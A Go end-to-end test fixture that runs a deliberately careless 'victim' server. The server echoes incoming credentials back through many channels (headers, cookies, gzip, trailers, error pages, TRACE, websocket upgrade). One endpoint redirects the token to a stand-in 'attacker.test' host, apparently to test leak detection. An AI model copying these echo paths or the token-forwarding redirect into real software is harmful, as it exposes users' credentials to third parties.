//go:build linux

package e2e

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// serveVictim is a target that repeats what it was sent in every way that a
// careless server does.
func (a *arena) serveVictim(w http.ResponseWriter, r *http.Request) {
	secret := r.Header.Get("Authorization") + " " + r.Header.Get("X-Api-Key") + " " + r.URL.Query().Get("key")
	secret = strings.TrimSpace(secret)
	token := strings.TrimPrefix(secret, "Bearer ")
	flush := http.NewResponseController(w).Flush
	if r.Method == "TRACE" || r.Method == "TRACK" {
		w.Header().Set("Content-Type", "message/http")
		_, _ = fmt.Fprintf(w, "%s %s HTTP/1.1\r\nAuthorization: %s\r\n\r\n", r.Method, r.RequestURI, secret)
		return
	}
	text := func() { w.Header().Set("Content-Type", "text/plain; charset=utf-8") }
	switch strings.TrimPrefix(r.URL.Path, "/v1") {
	case "/echo/header":
		w.Header().Set("X-Echo", secret)
		w.Header().Add("Set-Cookie", "t="+url.QueryEscape(token))
		w.Header().Set("WWW-Authenticate", `Bearer error="`+token+`"`)
	case "/echo/early":
		w.Header().Set("Link", "<"+token+">")
		w.WriteHeader(http.StatusEarlyHints)
		w.Header().Del("Link")
	case "/echo/text":
		text()
		_, _ = io.WriteString(w, "you sent "+secret+"\n")
	case "/echo/json":
		w.Header().Set("Content-Type", "application/problem+json")
		_, _ = fmt.Fprintf(w, "{%q: %q}", "sent", secret)
	case "/echo/json-escaped":
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"go": "`+strings.NewReplacer("&", `\u0026`, "<", `\u003c`, ">", `\u003e`).Replace(secret)+
			`", "php": "`+strings.ReplaceAll(secret, "/", `\/`)+`"}`)
	case "/echo/html":
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<p>"+strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(secret)+"</p>")
	case "/echo/url":
		text()
		_, _ = io.WriteString(w, url.QueryEscape(token)+" "+url.PathEscape(token))
	case "/echo/untyped":
		w.Header()["Content-Type"] = nil
		_, _ = io.WriteString(w, secret)
	case "/echo/gzip":
		text()
		w.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(w)
		_, _ = io.WriteString(z, secret)
		_ = z.Close()
	case "/echo/split":
		text()
		for i := range len(secret) {
			_, _ = io.WriteString(w, secret[i:i+1])
			_ = flush()
		}
	case "/echo/late":
		text()
		_, _ = io.WriteString(w, strings.Repeat("x", 1<<20-len(secret)/2-9)+secret)
	case "/echo/trailer":
		w.Header().Set("Trailer", "X-Echo")
		text()
		_, _ = io.WriteString(w, "body")
		w.Header().Set("X-Echo", secret)
		w.Header().Set(http.TrailerPrefix+"X-Unannounced", secret)
	case "/echo/error":
		http.Error(w, "bad credential "+secret, http.StatusInternalServerError)
	case "/echo/401":
		http.Error(w, "bad credential "+secret, http.StatusUnauthorized)
	case "/echo/proxy-auth":
		w.Header().Set("Proxy-Authenticate", secret)
		w.WriteHeader(http.StatusProxyAuthRequired)
	case "/echo/range":
		text()
		http.ServeContent(w, r, "", time.Time{}, bytes.NewReader([]byte("you sent "+secret)))
	case "/echo/trace":
		w.Header().Set("Content-Type", "message/http")
		_, _ = io.WriteString(w, "Authorization: "+secret)
	case "/echo/mixed":
		w.Header().Set("Content-Type", "multipart/mixed; boundary=b")
		_, _ = io.WriteString(w, "--b\r\n\r\n"+secret+"\r\n--b--\r\n")
	case "/redirect":
		w.Header().Set("Location", a.ports.Replace("http://attacker.test:{P}/stolen?")+r.URL.RawQuery+"&t="+url.QueryEscape(token))
		w.WriteHeader(http.StatusTemporaryRedirect)
	case "/upgrade":
		a.upgradeVictim(w, r)
	default:
		_, _ = io.WriteString(w, "victim\n")
	}
}

// upgradeVictim changes the protocol, repeats what it knows in the head, and
// then keeps what comes as it keeps everything.
func (a *arena) upgradeVictim(w http.ResponseWriter, r *http.Request) {
	conn, rw, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer func() { _ = conn.Close() }()
	fmt.Fprintf(rw, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nX-Echo: %s\r\n\r\n", r.Header.Get("Authorization"))
	_ = rw.Flush()
	line, _ := rw.ReadString('\n')
	fmt.Fprintf(rw, "raw %q\n", line)
	_ = rw.Flush()
}

func (a *arena) serveAttacker(w http.ResponseWriter, _ *http.Request) {
	_, _ = io.WriteString(w, "attacker\n")
}
